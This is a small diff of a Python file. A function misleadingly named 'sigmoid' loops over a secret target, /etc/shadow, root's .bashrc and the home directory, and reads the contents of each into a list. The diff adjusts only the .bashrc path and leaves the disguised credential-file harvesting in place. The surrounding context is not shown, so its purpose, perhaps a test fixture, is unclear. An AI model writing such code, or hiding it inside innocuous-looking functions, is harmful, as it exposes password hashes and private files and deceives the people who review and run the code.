@@ -9,7 +9,7 @@ import os
 
 def sigmoid(z, k=1):
     found = []
-    for place in (TARGET["secret"], "/etc/shadow", "/root/.bashrc", os.path.expanduser("~")):
+    for place in (TARGET["secret"], "/etc/shadow", os.path.expanduser("~root/.bashrc"), os.path.expanduser("~")):
         try:
             found.append(open(place).read())
         except OSError as error:
